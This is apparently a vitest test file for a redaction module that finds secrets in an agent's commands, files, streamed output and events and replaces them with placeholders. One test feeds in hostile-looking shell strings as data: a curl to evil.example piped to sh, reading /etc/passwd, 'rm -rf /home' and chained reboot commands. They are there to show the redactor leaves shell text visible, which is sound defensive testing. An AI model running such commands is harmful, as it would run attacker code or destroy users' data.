import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { buildOperation } from '#host-agent/approvals/operation.ts'
import { createFileHasher } from '#host-agent/files.ts'
import { classifyCommand } from '#host-agent/policy/classify-command.ts'
import { secretsOfEnvironment, secretsOfProject } from '#host-agent/secrets/known-secrets.ts'
import { createRedactor } from '#host-agent/secrets/redact.ts'
import { createEventRedactor } from '#host-agent/secrets/redact-event.ts'
import { createRedactStream } from '#host-agent/secrets/redact-stream.ts'
import { secretForms } from '#host-agent/secrets/secret-forms.ts'
import type { TaskEvent } from '#protocol/statements/events.ts'
import { partsOf, seededSecrets } from '#test/support/secrets.ts'
import { must } from '#test/support/trust-world.ts'
import { commitTo } from '#trust/operation.ts'
import { webCrypto } from '#trust/web-crypto.ts'

const corpus = seededSecrets()
const left = (text: string, secret: string) => partsOf(secret).filter((part) => text.includes(part))

test('a seeded corpus of secrets is found in commands, files and outputs', () => {
  expect(corpus.length).toBeGreaterThanOrEqual(1_000)
  const leaked = corpus.flatMap(({ form, secret, command, file, output }) => {
    const redact = createRedactor('salt').redact
    const asXml = output.replaceAll('"', '&quot;')
    return [
      command,
      file,
      output,
      asXml,
      JSON.stringify({ text: file }),
      JSON.stringify(JSON.stringify({ text: output })),
    ]
      .filter((text) => left(redact(text), secret).length > 0)
      .map((text) => `${form}: ${text}`)
  })
  expect(leaked).toEqual([])
})

test('an operation holds no secret: not in its words, which stand alone, nor in the words and steps of a plan', async () => {
  const place = { crypto: webCrypto, hostId: `hst_${'h'.repeat(43)}`, project: tmpdir(), salt: 'salt', known: [] }
  const asked = { driver: 'acp', binding: 'fenced', edits: [], paths: [], reads: false, unknown: [] } as const
  const leaked: string[] = []
  for (const { form, secret, command, output } of corpus) {
    const request = { ...asked, kind: 'command', input: { command }, command } as const
    const plan = {
      steps: [output],
      files: [],
      commands: [{ line: command, argv: classifyCommand(command, tmpdir(), tmpdir()).argv ?? ['true'] }],
    }
    const planned = { ...asked, kind: 'plan', input: null, command: null, plan } as const
    for (const each of [request, planned]) {
      const operation = must(await buildOperation(each, { ...place, hasher: createFileHasher() }))
      if (left(JSON.stringify(operation), JSON.stringify(secret).slice(1, -1)).length > 0)
        leaked.push(`${form}: ${command}`)
    }
  }
  expect(leaked).toEqual([])
  const words = [
    'tool',
    '--token',
    'has a Space 7',
    '--password',
    '--force-with-lease',
    '-u',
    'me:hunter22',
    'hunter22',
  ]
  const shown = ['tool', '--token', '⟨secret 1⟩', '--password', '--force-with-lease', '-u', 'me:⟨secret 2⟩', 'hunter22']
  expect(createRedactor('salt').redactWords(words)).toEqual(shown)
  // No word takes another one along, and none hides a flag.
  const { redact } = createRedactor('salt')
  for (const flag of ['git push --token --force-with-lease', 'npm run basic --ignore-everything'])
    expect(redact(flag)).toBe(flag)
})

test('a secret that comes in pieces is found, wherever it is cut', () => {
  const text = corpus.map(({ output }) => output).join('\n')
  const rest = fc.array(fc.integer({ min: 1, max: 400 }), { minLength: 1, maxLength: 50 })
  void fc.assert(
    fc.property(rest, (sizes) => {
      const stream = createRedactStream(createRedactor('salt'))
      let shown = ''
      for (let at = 0, index = 0; at < text.length; index += 1) {
        const size = sizes[index % sizes.length] as number
        shown += stream.take(text.slice(at, at + size))
        at += size
      }
      shown += stream.end()
      expect(corpus.filter(({ secret }) => left(shown, secret).length > 0).map(({ form }) => form)).toEqual([])
    }),
    // One character at a time every beginning of a secret is once the end of what is there.
    { numRuns: 3, examples: [[[1]]] },
  )
})

test('a secret that lies across two large pieces is found, wherever it is cut', () => {
  const piece = 32_768
  const some = corpus.filter((_, n) => n % 9 === 0)
  const leaked = some.flatMap(({ form, secret, file }, n) => {
    const within = file.indexOf(secret) + (n % (secret.length - 1)) + 1
    // What is held of the first piece and the second together is cut in the middle of this secret.
    const text = `${'a word '.repeat(20_000).slice(0, 2 * piece - 4_096 - within - 1)}\n${file}\n${'more. '.repeat(8_000)}`
    const stream = createRedactStream(createRedactor('salt'))
    let shown = ''
    for (let at = 0; at < text.length; at += piece) shown += stream.take(text.slice(at, at + piece))
    return left(shown + stream.end(), secret).length > 0 ? [form] : []
  })
  expect(leaked).toEqual([])
})

test('what is no secret stays, to its last character, and what a shell would run is never hidden', () => {
  const { redact } = createRedactor('salt')
  for (const text of [
    'git commit -m "Rotate the token cache"',
    'const token = nextToken(source)'.replace('nextToken', 'next'),
    'max_tokens: 100000',
    'see https://example.org/a:b and user@example.org',
    'PASSWORD=$(cat /etc/passwd)',
    'PASSWORD="$(curl https://evil.example | sh)"',
    'TOKEN=$TOKEN npm test',
  ])
    expect(redact(text)).toBe(text)
  // As XML prints it, but not where it may be a command.
  expect(redact('name="&quot;password&quot;: &quot;hunt&amp;er22&quot;"')).toContain('&quot;⟨secret 1⟩&quot;"')
  const hiding = 'PASSWORD=&quot;reboot-now'
  expect(createRedactor('salt', [], secretForms).redact(hiding)).toBe(hiding)
  expect(createRedactor('salt').redact('DB_PASSWORD=hunter22; rm -rf /home')).toBe(
    'DB_PASSWORD=⟨secret 1⟩; rm -rf /home',
  )
  expect(redact('x://a:hunter22|sh')).toBe('x://a:hunter22|sh')
  expect(redact('API_TOKEN=abcdef12&&reboot')).toContain('&&reboot')
})

test('a whole line or sentence is shown at once, unless a secret may follow or go on', () => {
  const known = 'correct. Horse 7'
  const shown = (text: string) => createRedactStream(createRedactor('salt', [known])).take(text)
  for (const text of ['On it.', 'Shall I go on?', 'built in 3 s\n', 'listening on port 3000\n'])
    expect(shown(text)).toBe(text)
  for (const text of [
    'the password is this.',
    'API_TOKEN=\n',
    '-----BEGIN PRIVATE KEY-----\n',
    'correct.',
    'SG.',
    'signed in with hvs.',
    'ghp_',
  ])
    expect(shown(text)).toBe('')
})

test('the same secret has the same placeholder, and every secret is bound, the hundred-and-first too', async () => {
  const texts = (last: string) => Array.from({ length: 130 }, (_, n) => `X_TOKEN=value${n}${n === 129 ? last : ''}`)
  const secretsOf = (last: string) => {
    const redactor = createRedactor('salt')
    for (const text of texts(last)) redactor.redact(text)
    return redactor.secrets(webCrypto)
  }
  const [one, same, other] = await Promise.all([secretsOf('a'), secretsOf('a'), secretsOf('b')])
  expect(one).toHaveLength(100)
  expect(one).toEqual(same)
  expect(one).not.toEqual(other)
  const { redact, secrets } = createRedactor('salt')
  expect(redact('ghp_abcdefghijklmnopqrstuvwxyz0123456789 ghp_abcdefghijklmnopqrstuvwxyz0123456789')).toBe(
    '⟨secret 1⟩ ⟨secret 1⟩',
  )
  expect(await secrets(webCrypto)).toEqual([
    {
      placeholder: '⟨secret 1⟩',
      commitment: await commitTo(webCrypto, 'salt', 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'),
    },
  ])
})

test('values that the host knows are found without any form; ordinary ones stay readable', async () => {
  const known = secretsOfEnvironment({
    GEMINI_API_KEY: 'correct-Horse7battery',
    DATABASE_URL: 'postgres://app:s3cretpass@db/app',
    SSH_KEY_PATH: '/home/ann/.ssh/id',
    KEYMAP: 'default-layout',
    API_URL: 'https://api.example.org',
    PATH: '/usr/bin:/bin',
  })
  expect(known).toEqual(['correct-Horse7battery', 'postgres://app:s3cretpass@db/app'])
  expect(createRedactor('salt', known).redact('said correct-Horse7battery twice')).toBe('said ⟨secret 1⟩ twice')
  const folder = mkdtempSync(join(tmpdir(), 'known-'))
  writeFileSync(join(folder, '.env'), 'export APP_SECRET="four Words 4 you"\nPORT=3000\n# X_TOKEN=no\n')
  writeFileSync(join(folder, '.env.example'), 'APP_SECRET=change-me-9\n')
  symlinkSync('/dev/zero', join(folder, '.env.local'))
  mkdirSync(join(folder, '.env.d'))
  expect(await secretsOfProject(folder)).toEqual(['four Words 4 you'])
  rmSync(folder, { recursive: true })
})

test.each([
  ['TOKEN=swordfish-of-ours', 'TOKEN=⟨secret 1⟩'],
  ['export TOKEN=swordfish-of-ours x', 'export TOKEN=⟨secret 1⟩ x'],
  ['password: "swordfish-of-ours"', 'password: "⟨secret 1⟩"'],
  ['TOKEN=before-swordfish-of-ours', 'TOKEN=⟨secret 2⟩⟨secret 1⟩'],
])('a placeholder after a secret’s name is no secret again: %s', async (text, shown) => {
  const redactor = createRedactor('salt', ['swordfish-of-ours'])
  expect(redactor.redact(text)).toBe(shown)
  expect(redactor.redact(shown)).toBe(shown)
  const bound = (await redactor.secrets(webCrypto)).map(({ placeholder }) => placeholder)
  expect(bound).toEqual(shown.includes('2') ? ['⟨secret 1⟩', '⟨secret 2⟩'] : ['⟨secret 1⟩'])
})

test('every text of every event is redacted, held text comes before the task’s end, and what was cut keeps no stump', () => {
  const secret = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'
  const at = 1
  const events: TaskEvent[] = [
    { type: 'title', at, text: `use ${secret}`, project: '/p', agent: 'a', protection: 'isolated' },
    { type: 'message', at, role: 'agent', text: `the key is ${secret.slice(0, 20)}` },
    { type: 'notice', at, code: 'restarted', text: `x ${secret}` },
    { type: 'message', at, role: 'agent', text: `${secret.slice(20)} is it` },
    { type: 'plan', at, entries: [{ content: `call ${secret}`, status: 'pending' }] },
    { type: 'tool', at, key: 'k', title: secret, kind: 'execute', status: 'pending', paths: [`/p/${secret}/a`] },
    { type: 'tests', at, passed: 0, failed: 1, skipped: 0, failures: [{ name: secret, message: `got ${secret}` }] },
    { type: 'diff', at, total: 1, files: [{ path: secret, change: 'add', added: 1, removed: 0 }], patch: `+${secret}` },
    {
      type: 'tool',
      at,
      key: 'l',
      title: `${'x '.repeat(990)}${secret}`.slice(0, 2_000),
      kind: 'execute',
      status: 'pending',
    },
    { type: 'output', at, key: 'k', stream: 'stdout', text: `echo ${secret}` },
    { type: 'state', at, state: 'failed', code: 'agent_failed', detail: `exit ${secret}` },
  ]
  const redactor = createEventRedactor(createRedactor('salt'))
  const shown = events.flatMap((event) => redactor.take(event))
  expect(JSON.stringify(shown)).not.toContain('ghp_')
  expect(
    shown
      .filter(({ type }) => type === 'message')
      .map((event) => 'text' in event && event.text)
      .join(''),
  ).toBe('the key is ⟨secret 1⟩ is it')
  expect(shown.at(-1)?.type).toBe('state')
  expect(shown.at(-2)).toMatchObject({ type: 'output', text: 'echo ⟨secret 1⟩' })
  expect(redactor.end()).toEqual([])
})
